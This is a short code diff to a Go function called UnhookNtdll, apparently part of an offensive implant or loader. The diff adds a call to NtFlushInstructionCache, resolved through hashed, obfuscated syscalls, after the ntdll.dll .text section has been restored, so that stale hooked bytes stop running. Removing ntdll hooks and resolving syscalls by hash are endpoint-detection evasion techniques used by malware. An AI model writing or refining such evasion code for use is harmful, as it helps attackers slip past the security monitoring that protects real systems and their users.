@@ -211,7 +211,13 @@ func UnhookNtdll() error {
 	if err != nil {
 		return fmt.Errorf("failed to restore memory protection: %v", err)
 	}
-	
+
+	// Make sure no core keeps executing the stale hooked bytes
+	status, _ := syscall.HashSyscall(obf.GetHash("NtFlushInstructionCache"), currentProcess, targetAddr, textSize)
+	if status != 0 {
+		debug.Printfln("UNHOOK", "Warning: NtFlushInstructionCache failed with status: 0x%X\n", status)
+	}
+
 	debug.Printfln("UNHOOK", "Unhooked ntdll.dll .text section (%d bytes)\n", textSize)
 	return nil
 }